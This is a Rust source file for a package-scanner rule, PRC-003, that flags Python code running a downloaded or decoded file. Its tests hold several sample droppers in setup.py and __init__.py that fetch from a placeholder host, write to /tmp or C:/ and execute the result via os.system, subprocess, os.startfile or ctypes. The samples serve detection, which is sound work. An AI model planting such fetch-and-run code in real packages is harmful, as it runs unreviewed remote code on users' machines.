//! `PRC-003`: a program that was downloaded or unpacked is started.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::FAR;
use super::{Rule, in_context, observe_flow};
use crate::python::{Analysis, Label, SinkKind};

/// The rule.
pub(super) struct Dropper;

impl Rule for Dropper {
    fn id(&self) -> &'static str {
        "PRC-003"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "a downloaded file is started"
    }

    fn manual(&self) -> &'static str {
        "Something from the network, or something decoded, is written to a file, and the \
         file is started, made executable or loaded as native code.\n\n\
         What is run is not part of the distribution: nobody has looked at it, and it can \
         be another tomorrow.\n\n\
         Mistaken for it: libraries that fetch the drivers of browsers when they are \
         first used. They do it in a call, and check what they got."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let starts = matches!(
                flow.kind,
                SinkKind::Command | SinkKind::Executable | SinkKind::Native
            );
            if flow.label != Label::Dropped || !starts {
                continue;
            }
            let worst = if flow.hops > FAR {
                Severity::Medium
            } else {
                Severity::High
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(90).in_context(flow.context);
            let message = format!(
                "{} starts a file that came from {}",
                analysis.sink(flow).target,
                flow.what
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn dropped_files_are_followed_to_their_start() {
        for (path, code) in [
            (
                "setup.py",
                "import requests, subprocess\nr = requests.get('https://files.invalid/a')\nwith open('/tmp/updater', 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen(['/tmp/updater'])",
            ),
            (
                "demo/__init__.py",
                "import urllib.request, os\nurllib.request.urlretrieve('https://files.invalid/a.exe', 'C:/a/setup_a.exe')\nos.startfile('C:/a/setup_a.exe')",
            ),
            (
                "demo/__init__.py",
                "import requests, os\np = os.path.join('/tmp', 'payload')\nopen(p, 'wb').write(requests.get('https://files.invalid/a').content)\nos.chmod(p, 0o755)\nos.system(p)",
            ),
            (
                "setup.py",
                "from pathlib import Path\nimport urllib.request as u, ctypes\np = Path('/tmp/native.so')\np.write_bytes(u.urlopen('https://files.invalid/a').read())\nctypes.CDLL(str(p))",
            ),
            (
                "demo/__init__.py",
                "import base64, os\nopen('/tmp/dropped', 'wb').write(base64.b64decode(blob))\nos.system('/tmp/dropped &')",
            ),
        ] {
            found("PRC-003", path, code);
        }
    }

    #[test]
    fn downloads_and_drivers_that_are_called_for_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import requests\nopen('/tmp/data.csv', 'wb').write(requests.get('https://files.invalid/a').content)",
            ),
            (
                "demo/__init__.py",
                "import urllib.request, subprocess\ndef driver():\n    urllib.request.urlretrieve('https://files.invalid/a', '/tmp/driver_a')\n    subprocess.Popen(['/tmp/driver_a'])",
            ),
            (
                "setup.py",
                "import subprocess\nsubprocess.check_call(['make'])",
            ),
        ] {
            quiet("PRC-003", path, code);
        }
    }
}
